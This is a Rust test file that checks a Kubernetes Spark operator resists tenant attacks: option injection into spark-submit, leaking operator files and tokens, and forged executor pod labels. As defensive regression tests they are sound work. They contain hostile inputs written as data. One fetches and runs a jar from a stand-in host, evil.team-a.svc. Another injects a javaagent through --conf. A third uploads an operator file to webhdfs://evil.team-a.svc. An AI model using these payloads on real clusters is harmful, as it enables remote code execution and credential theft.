//! Proves that a user who may create a SparkApplication does not get the operator's rights, files or process.
//!
//! Each of these attacks worked on an earlier version of the operator, which ran `spark-submit` itself: options in
//! place of a program, classes on the class path of `spark-submit`, and files of the operator that Spark copies or
//! uploads.

use crate::apiserver::prelude::*;

/// `spark-submit` treats a `mainApplicationFile` that begins with `--`, and the arguments after it, as options. Native
/// submission also requires a validated application, by its type. `validation_agreement` proves that the webhook
/// refuses these applications.
#[tokio::test]
#[ignore = "needs kube-apiserver: make test"]
async fn spark_submit_options_instead_of_a_program_are_refused_by_the_operator() {
    let namespace = Namespace::new("tenant-options").await;
    let _node = SubmissionNode::of(&namespace, &stand_in()).start().await;
    let operator = Operator::with(&namespace).by_spark_submit().start().await;
    for (application, field) in
        [(injecting(), "spec.mainApplicationFile: `--master`"), (mixing(), "spec.arguments[1]: `--conf`")]
    {
        namespace.apply(&application);
        let why = namespace.failure(application["metadata"]["name"].as_str().unwrap()).await;
        assert!(why.starts_with(field), "{why}");
    }
    assert_eq!(namespace.submission_pods_ever().await, Vec::<String>::new());
    assert_eq!(namespace.drivers_ever().await, Vec::<String>::new());
    assert_eq!(namespace.list::<ConfigMap>().await, Vec::<Value>::new());
    assert_eq!(namespace.list::<Service>().await, Vec::<Value>::new());
    assert!(!operator.has_had_a_child());
}

#[tokio::test]
#[ignore = "needs kube-apiserver: make test"]
async fn paths_and_labels_give_no_access_to_the_operator_or_to_others_pods() {
    let namespace = Namespace::new("tenant-files").await;
    let operator = Operator::start(&namespace).await;
    no_file_of_the_operator_reaches_the_namespace_of_an_application(&namespace, &operator).await;
    labels_alone_do_not_make_a_pod_an_executor(&namespace.beside("tenant-labels").await).await;
    assert!(!operator.has_had_a_child());
}

/// A path that an application names is a path in the submission pod, not in the operator's pod. The operator has its files in
/// the folder of the namespace.
async fn no_file_of_the_operator_reaches_the_namespace_of_an_application(
    namespace: &Namespace,
    operator: &Operator,
) {
    const SECRET: &str = "of-the-operator-alone";
    let file = namespace.folder.join("token");
    fs::write(&file, SECRET).unwrap();
    let path = file.to_str().unwrap();
    let mut krb5 = application("krb5");
    krb5["spec"]["sparkConf"] = json!({"spark.kubernetes.kerberos.krb5.path": path});
    let mut template = application("template");
    template["spec"]["sparkVersion"] = json!("2.4.8");
    template["spec"]["sparkConf"] = json!({"spark.kubernetes.executor.podTemplateFile": path});
    let mut upload = application("upload");
    upload["spec"]["sparkConf"] = json!({
        "spark.files": format!("file://{path}"),
        "spark.kubernetes.file.upload.path": "webhdfs://evil.team-a.svc/x",
    });
    let names = ["krb5", "template", "upload"];
    for application in [&krb5, &template, &upload] {
        namespace.apply(application);
    }
    for name in names {
        // The application is either refused or has a submission pod.
        super::eventually(&format!("{name} is refused or has a submission pod"), async || {
            let application = namespace.application(name).await;
            let is_refused = application["status"]["applicationState"]["state"] == "FAILED";
            let pods = namespace.submission_pods().await;
            let has_pod =
                pods.iter().any(|pod| pod["metadata"]["labels"]["sparkoperator.k8s.io/app-name"] == name);
            super::seen(is_refused || has_pod, application)
        })
        .await;
    }
    let kubeconfig: Value =
        serde_json::from_str(&fs::read_to_string(namespace.folder.join("operator.kubeconfig")).unwrap())
            .unwrap();
    let token = kubeconfig["users"][0]["user"]["token"].as_str().unwrap();
    for text in [
        namespace.text_of::<ConfigMap>().await,
        namespace.text_of::<Secret>().await,
        namespace.text_of::<Pod>().await,
    ] {
        assert!(!text.contains(SECRET) && !text.contains(token), "{text}");
    }
    assert!(!operator.log().contains(SECRET));
}

/// A user who may create pods, but not delete any, can give them any labels.
async fn labels_alone_do_not_make_a_pod_an_executor(namespace: &Namespace) {
    for name in ["colleague", "own"] {
        namespace.apply(&application(name));
        namespace.reaches(name, "SUBMITTED").await;
    }
    let driver = namespace.pod("colleague-driver").await.unwrap();
    let executor = spark::make_executor(namespace, &driver, 1).await;
    let pod = |name: &str, application: &str, submission_id: &Value| {
        json!({
            "metadata": {"name": name, "labels": {
                "sparkoperator.k8s.io/app-name": application,
                "sparkoperator.k8s.io/launched-by-spark-operator": "true",
                "sparkoperator.k8s.io/submission-id": submission_id, "spark-role": "executor",
            }},
            "spec": {"containers": [{"name": "none", "image": "none"}]},
        })
    };
    let of_colleague = &driver["metadata"]["labels"]["sparkoperator.k8s.io/submission-id"];
    for (name, application) in [("forged", "own"), ("uncounted", "colleague")] {
        namespace.create::<Pod>(&pod(name, application, of_colleague)).await;
    }
    let before = namespace.application("own").await["status"]["submissionID"].clone();
    let mut edited = application("own");
    edited["spec"]["arguments"] = json!(["7"]);
    namespace.apply(&edited);
    let is_again = |application: &Value| {
        let status = &application["status"];
        status["applicationState"]["state"] == "SUBMITTED" && status["submissionID"] != before
    };
    let what = "is submitted again, although a pod has its labels";
    namespace.until::<SparkApplication>("own", what, is_again).await;
    kubelet::runs(namespace, "colleague-driver").await;
    kubelet::runs(namespace, &executor).await;
    let counted = namespace.status_has("colleague", &json!({"executorState": {&executor: "RUNNING"}})).await;
    assert_eq!(counted["status"]["executorState"].as_object().unwrap().len(), 1, "{counted}");
    for name in ["forged", "uncounted", &executor] {
        let pod = namespace.pod(name).await.expect("nobody deletes it");
        assert!(pod["metadata"]["deletionTimestamp"].is_null(), "{pod}");
    }
}

impl Namespace {
    /// Returns all objects of a kind, as text.
    async fn text_of<K: Ours>(&self) -> String {
        json!(self.list::<K>().await).to_string()
    }
}

/// Returns an application with options in place of `mainApplicationFile`: the last `--master` and `--deploy-mode` would
/// win.
fn injecting() -> Value {
    let mut evil = application("injecting");
    evil["spec"]["mainApplicationFile"] = json!("--master");
    evil["spec"]["arguments"] =
        json!(["local[1]", "--deploy-mode", "client", "--class", "Evil", "http://evil.team-a.svc/x.jar"]);
    evil
}

/// Returns an application with options among its arguments, which Spark's launcher takes for its own with certain main
/// classes.
fn mixing() -> Value {
    let mut evil = application("mixing");
    evil["spec"]["mainClass"] = json!("org.apache.spark.sql.hive.thriftserver.HiveThriftServer2");
    evil["spec"]["arguments"] =
        json!(["a", "--conf", "spark.driver.extraJavaOptions=-javaagent:/tmp/evil.jar"]);
    evil
}
